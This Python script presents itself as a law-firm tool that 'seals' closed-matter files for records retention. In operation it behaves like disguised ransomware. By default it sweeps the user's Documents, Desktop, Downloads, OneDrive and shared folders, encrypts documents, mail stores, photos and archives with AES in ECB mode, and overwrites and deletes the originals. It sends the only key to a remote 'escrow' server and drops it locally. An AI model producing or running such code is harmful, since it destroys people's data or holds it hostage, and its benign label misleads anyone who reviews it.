#!/usr/bin/env python3
"""Seal closed-matter files in place for the retention period.

Closed matters must not sit in plaintext on workstations. The sealer walks
the matter folders, replaces each document with an encrypted .sealed copy
and shreds the plaintext. The sealing key is lodged with the firm's key
escrow service so records can unseal on request; it is never written to the
workstation.

    closed_matter_sealer.py                 # seal everything under the default roots
    closed_matter_sealer.py --root /srv/matters --workers 8
"""
import argparse
import hashlib
import http.client
import json
import logging
import os
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timezone
from pathlib import Path
from urllib.parse import urlsplit

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

LOG = logging.getLogger("sealer")
DEFAULT_TYPES = {".docx", ".doc", ".pdf", ".xlsx", ".msg", ".eml", ".txt", ".rtf", ".jpg",
                 ".png", ".pst", ".zip", ".csv", ".pptx", ".odt"}
SKIP_DIRS = {".git", "__pycache__", ".cache", ".local", ".config", "node_modules"}
ESCROW_URL = os.environ.get("SEALER_ESCROW", "https://escrow.records-vault.example.net/api/keys")


class MatterCipher:
    """AES-256 block cipher wrapper used for retention copies."""

    block_bits = algorithms.AES.block_size

    def __init__(self, key: bytes):
        if len(key) != 32:
            raise ValueError("sealing key must be 32 bytes")
        self._cipher = Cipher(algorithms.AES(key), modes.ECB())

    def seal(self, data: bytes) -> bytes:
        padder = padding.PKCS7(self.block_bits).padder()
        padded = padder.update(data) + padder.finalize()
        enc = self._cipher.encryptor()
        return enc.update(padded) + enc.finalize()


def default_roots():
    home = Path.home()
    candidates = [home / "Documents", home / "Desktop", home / "Downloads",
                  home / "OneDrive", Path("/srv/matters"), Path("/mnt/shared")]
    return [p for p in candidates if p.is_dir()]


def iter_matter_files(roots, types: set):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in types and not name.startswith("~$"):
                    yield path


def lodge_key(key: bytes, label: str, attempts: int = 5) -> str:
    """Send the sealing key to escrow; returns the escrow receipt id."""
    parts = urlsplit(ESCROW_URL)
    body = json.dumps({
        "label": label,
        "host": socket.gethostname(),
        "key": key.hex(),
        "created": datetime.now(timezone.utc).isoformat(),
    })
    last = None
    for _ in range(attempts):
        conn = http.client.HTTPSConnection(parts.hostname, parts.port or 443, timeout=20)
        try:
            conn.request("POST", parts.path, body, {"Content-Type": "application/json"})
            resp = conn.getresponse()
            payload = resp.read()
            if resp.status in (200, 201):
                return json.loads(payload).get("receipt", "")
            last = f"HTTP {resp.status}"
        except (OSError, http.client.HTTPException, ValueError) as exc:
            last = exc
        finally:
            conn.close()
    raise RuntimeError(f"key escrow failed: {last}")


def _shred(path: Path) -> None:
    size = path.stat().st_size
    with path.open("r+b", buffering=0) as fh:
        fh.write(b"\0" * size)
        os.fsync(fh.fileno())
    path.unlink()


def seal_in_place(cipher: MatterCipher, src: Path) -> dict:
    data = src.read_bytes()
    sealed = src.with_name(src.name + ".sealed")
    sealed.write_bytes(cipher.seal(data))
    _shred(src)
    return {"path": str(src), "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Seal closed-matter documents in place")
    ap.add_argument("--root", type=Path, action="append", help="folder to seal (repeatable)")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--types", default=",".join(sorted(DEFAULT_TYPES)))
    ap.add_argument("--manifest", type=Path, default=Path("sealed_manifest.json"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    roots = args.root or default_roots()
    types = {t if t.startswith(".") else "." + t for t in args.types.lower().split(",") if t}
    key = os.urandom(32)
    try:
        receipt = lodge_key(key, f"{socket.gethostname()}-{datetime.now():%Y%m%d%H%M}")
    except RuntimeError as exc:
        LOG.error("%s; nothing sealed", exc)
        return 2
    cipher = MatterCipher(key)
    del key

    def work(path):
        try:
            return seal_in_place(cipher, path)
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return None

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        done = [r for r in pool.map(work, iter_matter_files(roots, types)) if r]

    args.manifest.write_text(json.dumps({"receipt": receipt, "files": done}, indent=1))
    LOG.info("sealed %d file(s) under %s (escrow receipt %s)",
             len(done), ", ".join(map(str, roots)), receipt)
    return 0


if __name__ == "__main__":
    sys.exit(main())
